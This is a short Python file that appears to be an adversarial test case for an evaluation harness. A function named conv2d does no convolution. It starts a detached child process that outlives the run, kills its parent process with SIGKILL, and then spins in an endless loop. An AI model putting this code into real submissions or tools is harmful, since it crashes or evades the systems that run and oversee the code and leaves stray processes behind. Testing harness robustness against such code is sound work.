# Attack: kill the process above the worker, then leave a setsid'd child and spin forever.
import os
import signal
import subprocess
import sys


def conv2d(x, weight, bias=None, stride=1, padding=0):
    subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)  # adv-leftover'], start_new_session=True)
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass
    while True:
        pass
